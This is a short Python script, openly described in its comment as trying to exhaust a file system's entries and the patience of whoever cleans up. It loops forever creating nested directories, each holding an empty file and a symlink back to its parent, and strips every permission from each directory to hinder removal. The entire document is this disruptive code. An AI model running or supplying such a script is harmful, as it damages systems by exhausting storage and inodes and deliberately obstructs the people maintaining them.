# tries to: use up the entries of the file system, and the patience of whoever removes them
import os

number = 0
while True:
    os.mkdir(str(number))
    os.chdir(str(number))
    open("file", "w").close()
    os.symlink("..", "up")
    os.chmod(".", 0)
    number += 1
